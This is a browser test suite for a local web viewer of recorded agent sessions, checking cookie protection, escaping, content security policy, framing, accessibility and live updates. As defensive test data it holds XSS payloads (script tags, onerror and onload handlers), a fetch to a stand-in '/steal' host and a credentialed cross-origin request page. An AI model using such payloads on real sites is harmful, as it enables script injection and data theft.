"""The pages in a real browser: what a person sees and can do, and that nothing of what is shown ever runs."""

import json
import re
import threading
from collections.abc import Generator
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from typing import Any

import pytest

from holdall.bag import Holdall
from holdall.cli.viewer import WAY_IN
from tests.requirements import requirement
from tests.web.conftest import Watched
from tests.web.stories import Told, investigation, plain
from tests.web.support import Viewer, done, viewer

pytestmark = [pytest.mark.browser, pytest.mark.in_full(one_in=3)]

EVIL = "\"><script>alert(1)</script><img src=x onerror=alert(2)><svg/onload=alert(3)>'"
WIDTHS = [pytest.param(375, id="phone"), pytest.param(1100, id="desk")]


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Generator[tuple[Viewer, Told]]:
    """A store with a hostile session, some plain ones and a whole investigation. Nothing changes it."""
    home = tmp_path_factory.mktemp("viewer") / "home"

    async def fill() -> Told:
        await plain(home, EVIL, [(EVIL, EVIL * 100)])
        for number in range(3):
            await plain(home, f"plain {number}", [("fetch", "x\n")])
        return await investigation(home, f"the-longest-name-{'x' * 120}", tool="a_tool_with_a_name_that_never_ends" * 3)

    told = done(fill)
    with viewer(home) as at:
        yield at, told


def test_the_token_leaves_the_address_bar_and_scripts_cannot_read_it(
    served: tuple[Viewer, Told], watched: Watched
) -> None:
    at, _ = served
    watched.visit(at.address)
    assert watched.page.url == f"{at.base}/"
    assert watched.page.evaluate("document.cookie") == ""
    (cookie,) = watched.context.cookies()
    assert (cookie.get("httpOnly"), cookie.get("sameSite")) == (True, "Strict")
    watched.is_calm()


@requirement("viewer:own-path")
def test_another_server_on_this_machine_gets_no_cookie(served: tuple[Viewer, Told], watched: Watched) -> None:
    """Cookies know no ports: at the same host only the path keeps them from a neighbour."""
    at, _ = served
    heard: list[str | None] = []

    class Neighbour(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            heard.append(self.headers["cookie"])
            self.send_response(200)
            self.end_headers()

        def log_message(self, format: str, *args: object) -> None:
            pass

    watched.visit(at.address)
    with HTTPServer(("127.0.0.1", 0), Neighbour) as server:
        serving = threading.Thread(target=server.serve_forever)
        serving.start()
        try:
            for path in ("", "s/x", "static/style.css"):
                watched.page.goto(f"http://127.0.0.1:{server.server_port}/{path}")
        finally:
            server.shutdown()
            serving.join()
    assert heard
    assert set(heard) == {None}
    watched.visit(f"{at.base}/")
    assert watched.page.locator("h1").inner_text() == "Sessions"


def test_a_file_that_leads_to_the_viewer_lets_in(served: tuple[Viewer, Told], watched: Watched, tmp_path: Path) -> None:
    """As `holdall view` opens it: from there a browser sends no strict cookie along a redirect."""
    at, _ = served
    way_in = tmp_path / "open.html"
    way_in.write_text(WAY_IN.format(address=at.address))
    watched.page.goto(way_in.as_uri())
    watched.page.wait_for_url(f"{at.base}/")
    assert watched.page.locator("h1").is_visible()


def test_hostile_names_are_text_and_nothing_runs_or_leaves(served: tuple[Viewer, Told], watched: Watched) -> None:
    at, told = served
    watched.visit(at.address)
    assert watched.page.get_by_text(EVIL, exact=True).first.is_visible()
    watched.page.get_by_role("link", name=EVIL).click()
    watched.page.wait_for_load_state("networkidle")
    assert watched.page.title() == f"{EVIL} · Holdall"
    assert watched.page.locator("h1").inner_text() == EVIL
    assert watched.page.locator("main img, main script, main iframe").count() == 0
    watched.visit(f"{at.base}/s/{told.session}")
    watched.visit(f"{at.base}/?q=%22%3E%3Cscript%3Ealert(1)%3C/script%3E")
    assert watched.page.locator("#q").input_value() == '"><script>alert(1)</script>'
    watched.is_calm()


def test_the_policy_stops_what_would_get_past_the_escaping(served: tuple[Viewer, Told], watched: Watched) -> None:
    """As if a template had failed: markup that is put into the page still runs nothing and fetches nothing."""
    at, _ = served
    watched.visit(at.address)
    watched.page.evaluate(
        """() => {
            window.ran = [];
            window.refused = [];
            document.addEventListener('securitypolicyviolation', (event) => window.refused.push(event.effectiveDirective));
            const script = document.createElement('script');
            script.textContent = 'window.ran.push(1)';
            document.body.append(script);
            const place = document.createElement('div');
            place.innerHTML = '<img src="http://192.0.2.1/x"><a onclick="window.ran.push(2)" id="evil" style="color:red">x</a>';
            document.body.append(place);
            document.getElementById('evil').click();
            fetch('http://192.0.2.1/steal').catch(() => {});
        }"""
    )
    watched.page.wait_for_function("window.refused.length >= 4")
    assert watched.page.evaluate("window.ran") == []
    refused = set(watched.page.evaluate("window.refused"))
    assert {"script-src-elem", "script-src-attr", "style-src-attr", "img-src", "connect-src"} & refused >= {
        "script-src-elem",
        "img-src",
        "connect-src",
    }


def test_another_site_can_neither_frame_nor_fetch_it(served: tuple[Viewer, Told], watched: Watched, home: Path) -> None:
    at, _ = served
    watched.visit(at.address)
    with viewer(home.parent / "other-home") as other:  # another origin on this machine, and the same site for cookies
        page = watched.context.new_page()
        page.goto(other.address)
        page.route("**/attack", lambda route: route.fulfill(body=_attack(at.base), content_type="text/html"))
        page.goto(f"{other.base}/attack")
        page.wait_for_function("document.title.startsWith('done')")
        assert page.title() == "done refused"
        assert all("Sessions" not in frame.content() for frame in page.frames if frame is not page.main_frame)


def _attack(base: str) -> str:
    return f"""<!doctype html><title>attack</title><iframe src="{base}/"></iframe><script>
    fetch('{base}/', {{credentials: 'include', mode: 'no-cors'}}).then(
      () => {{ document.title = 'done opaque'; }}, () => {{ document.title = 'done refused'; }});
    </script>"""


def test_everything_can_be_done_with_the_keyboard(served: tuple[Viewer, Told], window: Watched) -> None:
    at, _ = served
    page = window.page
    window.visit(at.address)
    page.keyboard.press("Tab")
    assert _focused(page) == "Skip to the content"
    page.keyboard.press("Enter")
    assert page.evaluate("document.activeElement.id") == "main"
    page.keyboard.press("j")
    first = _focused(page)
    page.keyboard.press("j")
    assert _focused(page) != first
    page.keyboard.press("k")
    assert _focused(page) == first
    page.keyboard.press("/")
    assert page.evaluate("document.activeElement.id") == "q"
    page.keyboard.type("plain j")
    assert page.locator("#q").input_value() == "plain j", "letters are letters in a field"
    page.keyboard.press("Escape")
    page.keyboard.press("?")
    assert page.get_by_role("dialog").is_visible()
    page.keyboard.press("Escape")
    assert page.get_by_role("dialog").count() == 0
    page.keyboard.press("j")
    page.keyboard.press("Enter")
    page.wait_for_url(re.compile(r"/s/[0-9a-f-]{36}$"))
    page.keyboard.press("u")
    page.wait_for_url(f"{at.base}/")
    window.is_calm()


def _focused(page: Any) -> str:
    return str(page.evaluate("document.activeElement.innerText"))


def test_the_address_of_the_calls_has_what_was_asked(served: tuple[Viewer, Told], window: Watched) -> None:
    at, told = served
    window.visit(at.address)
    window.visit(f"{at.base}/s/{told.session}/calls")
    page = window.page
    page.get_by_label("What became of them").select_option("refused")
    page.wait_for_url("**/calls?verdict=refused")
    page.get_by_label("Search the calls").fill("no such call")
    page.wait_for_url("**/calls?q=no+such+call&verdict=refused")
    window.visit(page.url)
    assert page.get_by_label("What became of them").input_value() == "refused"
    page.get_by_text("No call is like that.").wait_for()
    window.is_calm()


def test_back_leads_to_the_order_of_the_calls_before(served: tuple[Viewer, Told], window: Watched) -> None:
    at, told = served
    window.visit(at.address)
    window.visit(f"{at.base}/s/{told.session}/calls")
    page = window.page
    first = page.locator("#calls-found tbody tr").first
    newest = first.inner_text()
    page.get_by_label("Which first").select_option("longest")
    page.wait_for_url("**/calls?sort=longest")
    longest = first.inner_text()
    assert longest != newest
    page.get_by_label("Which first").select_option("largest")
    page.wait_for_url("**/calls?sort=largest")
    page.go_back()
    page.wait_for_url("**/calls?sort=longest")
    page.wait_for_function("words => document.querySelector('#calls-found tbody tr').innerText === words", arg=longest)
    assert page.get_by_label("Which first").input_value() == "longest"
    page.go_back()
    page.wait_for_function("words => document.querySelector('#calls-found tbody tr').innerText === words", arg=newest)
    assert page.get_by_label("Which first").input_value() == "newest"
    window.is_calm()


def test_back_leads_to_the_search_of_the_calls_before(served: tuple[Viewer, Told], window: Watched) -> None:
    at, told = served
    window.visit(at.address)
    window.visit(f"{at.base}/s/{told.session}/calls")
    from playwright.sync_api import expect

    page, field = window.page, window.page.get_by_label("Search the calls")
    for words, shown in (("helper", "q=helper"), ("grep", "q=grep")):
        field.fill(words[:3])
        page.wait_for_url(f"**/calls?{shown[:5]}")
        field.fill(words)
        page.wait_for_url(f"**/calls?{shown}")
        field.press("Enter")
        page.wait_for_function("() => !document.querySelector('.htmx-request')")  # or it asks for what comes next
    page.go_back()
    page.wait_for_url("**/calls?q=helper")
    expect(field).to_have_value("helper", timeout=60_000)
    page.go_back()
    page.wait_for_url(re.compile("/calls$"))
    expect(field).to_have_value("", timeout=60_000)
    page.wait_for_load_state("networkidle")
    window.is_calm()


def test_a_word_in_an_output_of_any_session_is_found_from_the_first_page(
    served: tuple[Viewer, Told], window: Watched
) -> None:
    at, _ = served
    window.visit(at.address)
    page = window.page
    page.get_by_role("searchbox").fill("SVG/onload")
    page.keyboard.press("Enter")
    page.get_by_role("link", name="Search every byte of all outputs").click()
    inside = page.get_by_role("region", name="In outputs")
    inside.get_by_text("All outputs that are kept").wait_for()
    assert inside.locator("mark").all_inner_texts() == ["svg/onload"]
    inside.get_by_role("link").click()
    page.get_by_text("1 of 100").wait_for()
    page.locator("mark.current").first.wait_for()
    assert "".join(page.locator("mark.current").all_inner_texts()) == "svg/onload", "it may be on two rows"
    window.is_calm()


def test_a_word_that_was_said_is_found_from_the_first_page_and_its_message_opens_there(
    home: Path, watched: Watched
) -> None:
    async def fill() -> None:
        async with Holdall.open(home=str(home), session="long talk") as bag:
            said = [{"role": "user", "text": f"message {at}\n" * 200} for at in range(30)]
            said[20]["text"] += "the needle\n" + "and more\n" * 200
            said[10]["text"] += "a needle of another kind\n"
            bag.append_transcript(b"".join(json.dumps(line).encode() + b"\n" for line in said))

    done(fill)
    page = watched.page
    with viewer(home) as at:
        watched.visit(at.address)
        page.get_by_role("searchbox").fill("NEEDLE")
        page.keyboard.press("Enter")
        page.get_by_role("region", name="In calls and messages").get_by_role("link", name="user").nth(1).click()
        page.get_by_text("2 messages with “NEEDLE”").wait_for()
        page.get_by_text("message 20").first.wait_for()
        assert page.locator("details[open]").count() == 1
        mark = page.locator(".said mark", has_text="needle")
        mark.wait_for()
        page.wait_for_function("document.querySelector('.said').scrollTop > 0")
        box, around = mark.bounding_box(), page.locator(".said").bounding_box()
        assert box is not None
        assert around is not None
        assert around["y"] <= box["y"] < around["y"] + around["height"]
        page.get_by_role("searchbox").fill("another kind")
        page.keyboard.press("Enter")
        page.locator("details[open] .said mark", has_text="another kind").wait_for()  # the only one
        page.keyboard.press("u")
        page.get_by_role("heading", name="long talk").wait_for()
        watched.is_calm()


@pytest.mark.parametrize("width", WIDTHS)
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_pages_fit_their_window_and_can_be_read(
    served: tuple[Viewer, Told], window: Watched, width: int, scheme: Any
) -> None:
    at, told = served
    window.page.set_viewport_size({"width": width, "height": 800})
    window.page.emulate_media(color_scheme=scheme)
    window.visit(at.address)
    for path in ("/", f"/s/{told.session}", f"/s/{told.session}/messages?q=disk", "/nowhere"):
        window.page.goto(at.base + path, wait_until="networkidle")
        assert window.page.evaluate("document.documentElement.scrollWidth") <= width, path
        poor = window.page.evaluate(CONTRAST)
        assert poor == [], path
    assert window.troubles == [
        "console: Failed to load resource: the server responded with a status of 404 (Not Found)"
    ]


@pytest.mark.parametrize("width", WIDTHS)
def test_a_list_of_calls_fits_its_window_whatever_they_are_called(home: Path, window: Watched, width: int) -> None:
    async def fill() -> str:
        async with Holdall.open(home=str(home), session="s" * 80) as bag:
            writer = await bag.jobs.begin(tool="make" * 20, arguments={"path": "/" + "z" * 200})
            writer.finish("interrupted", error="q" * 150)
            return bag.session.id

    session = done(fill)
    window.page.set_viewport_size({"width": width, "height": 800})
    with viewer(home) as at:
        for path in ("", "/calls"):
            window.page.goto(f"{at.base}/s/{session}{path}?token={at.token}", wait_until="load")
            window.page.get_by_text("unknown: killed").last.wait_for()
            window.page.get_by_text("q" * 150).last.wait_for()
            assert window.page.evaluate("document.documentElement.scrollWidth") <= width, path
        window.is_calm()


# Every text on the page against the ground that it stands on, as WCAG 2 counts it.
CONTRAST = """() => {
  const parse = (text) => { const n = text.match(/[\\d.]+/g).map(Number); return n.length < 4 ? [...n, 1] : n; };
  const light = ([r, g, b]) => [r, g, b].map((v) => v / 255).map((v) => v <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4)
    .reduce((sum, v, at) => sum + v * [0.2126, 0.7152, 0.0722][at], 0);
  const ground = (one) => { for (let at = one; at; at = at.parentElement) { const c = parse(getComputedStyle(at).backgroundColor); if (c[3] > 0.99) return c; } return [255, 255, 255, 1]; };
  const poor = [];
  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  while (walker.nextNode()) {
    const one = walker.currentNode.parentElement;
    if (!walker.currentNode.data.trim() || !one.getClientRects().length || one.closest('svg')) continue;
    const style = getComputedStyle(one);
    const [a, b] = [light(parse(style.color)), light(ground(one))].sort((x, y) => y - x);
    const ratio = (a + 0.05) / (b + 0.05);
    if (ratio < 4.5) poor.push(`${walker.currentNode.data.trim().slice(0, 40)}: ${ratio.toFixed(2)}`);
  }
  return poor;
}"""


def test_names_and_roles_are_there_for_those_who_do_not_see(served: tuple[Viewer, Told], window: Watched) -> None:
    at, told = served
    window.visit(at.address)
    page = window.page
    assert page.get_by_role("search").get_by_role("searchbox", name=re.compile("^Search")).count() == 1
    window.visit(f"{at.base}/s/{told.session}")
    assert page.locator("html").get_attribute("lang") == "en"
    assert page.get_by_role("main").count() == 1
    assert page.locator("h1").count() == 1
    assert page.get_by_role("img", name="Tokens in the context at each turn").count() == 1
    page.get_by_text("As a table").click()
    assert page.get_by_role("cell", name="2,100").is_visible()
    assert page.locator("svg[role=img]:not([aria-label]):not([aria-labelledby])").count() == 0
    unnamed = "Array.from(document.querySelectorAll('a,button,input')).filter((one) => !(one.innerText || one.labels?.length)).length"
    assert page.evaluate(unnamed) == 0
    window.is_calm()


def test_the_list_of_calls_follows_what_a_gateway_does(home: Path, watched: Watched) -> None:
    """Nothing runs when the page is loaded. What somebody reads is not taken from under their eyes."""
    bag, page = Holdall.open(home=str(home), session="editor"), watched.page

    def call(tool: str) -> None:
        bag.journal.record("inline", tool=tool, chars=5)

    call("first_tool")
    with viewer(home) as at:
        watched.visit(f"{at.base}/s/{bag.session.id}?token={at.token}")
        page.get_by_text("first_tool").wait_for()
        call("second_tool")
        page.get_by_text("second_tool").wait_for()
        done(lambda: bag.keep("x\n", tool="export"))
        page.get_by_role("region", name="Outputs").get_by_text("export").wait_for()
        link = page.get_by_role("region", name="Calls").get_by_role("link", name="export")
        link.focus()
        call("third_tool")
        page.get_by_role("button", name="There are newer calls").click()
        page.get_by_text("third_tool").wait_for()
        page.get_by_label("Search the calls").fill("first")
        page.wait_for_url(f"**/s/{bag.session.id}?q=first")
        call("first_of_all")
        page.get_by_text("first_of_all").wait_for()
        assert page.get_by_text("third_tool").count() == 0
        page.reload()
        page.get_by_text("first_of_all").wait_for()
        assert page.get_by_role("region", name="Outputs").is_visible(), "it is the page of the session still"
        assert page.get_by_label("Search the calls").input_value() == "first"
        assert page.get_by_text("third_tool").count() == 0
        page.go_back()
        page.get_by_text("third_tool").wait_for()
        watched.is_calm()
    done(bag.close)


def test_the_list_of_sessions_follows_what_begins_runs_and_ends(home: Path, watched: Watched) -> None:
    bag, page = Holdall.open(home=str(home), session="live"), watched.page
    with viewer(home) as at:
        page.goto(at.address)
        page.evaluate("window.sameDocument = true")
        age = page.locator(".card time")
        page.wait_for_function(
            "before => document.querySelector('.card time').innerText !== before", arg=age.inner_text()
        )
        assert re.fullmatch(r"\d+s ago", age.inner_text())
        with bag.lease("a test"):
            bag.journal.record("turn", number=1, final=False, tokens=10, why="")
            page.locator(".card .is-running").wait_for()
            link = page.get_by_role("link", name="live")
            link.focus()
            done(lambda: bag.keep("x\n", tool="fetch"))
            page.locator(".card", has_text="1 output").wait_for()
            page.locator(".figures > div", has_text=re.compile(r"outputs kept\s*1")).wait_for()
            assert link.evaluate("one => one === document.activeElement"), "the focus stays where it is"
            took = page.locator("[data-since]")
            page.wait_for_function(
                "before => document.querySelector('[data-since]').innerText !== before", arg=took.inner_text()
            )
            done(lambda: plain(home, "another", []))
            page.get_by_role("link", name="another").wait_for()
            bag.journal.record("reported", status="success", synthetic=False, why="", chars=0, turns=1, seen={})
        page.locator(".card .is-good", has_text="success").wait_for()
        page.locator(".figures > div", has_text=re.compile(r"sessions running\s*0")).wait_for()
        assert page.locator("[data-since]").count() == 0
        assert page.evaluate("window.sameDocument") is True
        watched.is_calm()
    done(bag.close)


def test_a_running_session_is_seen_to_go_on_and_to_end(home: Path, watched: Watched) -> None:
    """The page is not loaded again: what is new comes to it, and it stops asking when the session has ended."""

    def step(bag: Holdall, *tools: str) -> None:
        for tool in tools:
            bag.journal.record(
                "called", tool=tool, call_id=tool, seconds=0.1, outcome="inline", is_error=False, chars=1
            )
        bag.journal.record("asked", seconds=0.1, purpose="turn", model="m", input_tokens=1, output_tokens=1, why="")

    bag = Holdall.open(home=str(home), session="live")
    with viewer(home) as at:
        with bag.lease("a test"):
            bag.journal.record("turn", number=1, final=False, tokens=10, why="")
            step(bag, "first_tool")
            watched.visit(f"{at.base}/s/{bag.session.id}?token={at.token}")
            page = watched.page
            page.evaluate("window.sameDocument = true")
            assert page.get_by_role("status").inner_text() == "running"
            page.locator("summary", has_text="first_tool").click()
            page.get_by_text("Came back to the model").wait_for()
            step(bag, "second_tool")
            page.get_by_text("second_tool").wait_for()
            assert page.get_by_text("Came back to the model").is_visible(), "what was opened stays open"
            told = {"handle": "k3f9", "tool": "crawl", "call_id": "slow"}
            bag.journal.record("called", **told, seconds=0.1, outcome="running", is_error=False, chars=1)
            crawl = page.locator("summary", has_text="crawl")
            crawl.locator(".is-running").wait_for()
            crawl.click()
            page.wait_for_function(
                "before => document.querySelector('summary [data-since]').innerText !== before",
                arg=crawl.locator("[data-since]").inner_text(),
            )
            bag.journal.record("ended", **told, seconds=60.0, state="ready", bytes=7, tokens=3)
            crawl.locator(".is-running").wait_for(state="detached")
            assert crawl.locator(".op-figures").inner_text() == "1 min 00 s"
            assert crawl.locator("xpath=..").get_attribute("open") is not None
            bag.journal.record("reported", status="success", synthetic=False, why="", chars=0, turns=1, seen={})
        page.get_by_text("success").wait_for()
        page.locator('[hx-trigger="every 1s"]').first.wait_for(state="detached")  # it asks less often
        assert page.evaluate("window.sameDocument") is True
        watched.is_calm()
    done(bag.close)


def test_what_is_read_stays_where_it_is_while_a_session_goes_on(home: Path, watched: Watched) -> None:
    bag, page = Holdall.open(home=str(home), session="live"), watched.page
    with viewer(home) as at, bag.lease("a test"):
        bag.journal.record("turn", number=1, final=False, tokens=10, why="")
        for number in range(30):
            told = {"tool": f"tool_{number}", "call_id": str(number), "outcome": "inline"}
            bag.journal.record("called", **told, seconds=0.1, is_error=False, chars=1)
        bag.journal.record("asked", seconds=0.1, purpose="turn", model="m", input_tokens=1, output_tokens=1, why="")
        watched.visit(f"{at.base}/s/{bag.session.id}?token={at.token}")
        row = page.locator("details.op-open", has_text="tool_20").first
        row.locator("summary").click()
        page.get_by_text("Came back to the model").wait_for()
        row.evaluate("row => scrollBy(0, row.getBoundingClientRect().top - 200)")
        for number in range(3):
            done(lambda number=number: bag.keep("x\n", tool=f"kept_{number}"))
            page.get_by_role("region", name="Outputs").get_by_text(f"kept_{number}").wait_for()
            page.evaluate("() => new Promise(done => setTimeout(done, 100))")  # until htmx has settled
            box = row.bounding_box()
            assert box is not None
            assert abs(box["y"] - 200) < 2
        watched.is_calm()
    done(bag.close)
